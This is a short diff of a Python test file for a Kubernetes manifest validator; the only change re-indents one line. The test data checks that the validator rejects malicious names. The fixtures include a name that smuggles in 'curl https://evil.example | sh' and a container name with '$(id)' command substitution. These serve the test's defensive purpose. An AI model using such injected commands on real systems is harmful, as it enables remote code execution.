@@ -845,7 +845,7 @@ POD_FILE_CASES = [
         "{name: workload, namespace: demo}", '{name: "workload; curl https://evil.example | sh #", namespace: demo}')),
         "'workload; curl https://evil.example | sh #'", "is not a valid Kubernetes name"),
     file_case("container-shell-injection", deployment(containers='[{name: "app$(id)", env: [{name: AZURE_CLIENT_ID, '
-                                                                   'value: 00000000-1111-2222-3333-444444444444}]}]'),
+                                                      'value: 00000000-1111-2222-3333-444444444444}]}]'),
               "'app$(id)'", "is not a valid Kubernetes name"),
     # explicit tags PyYAML's constructors fail on
     file_case("tag-bool", write("kind: Pod\nmetadata: {name: !!bool x}\n"), "has a value YAML cannot read"),
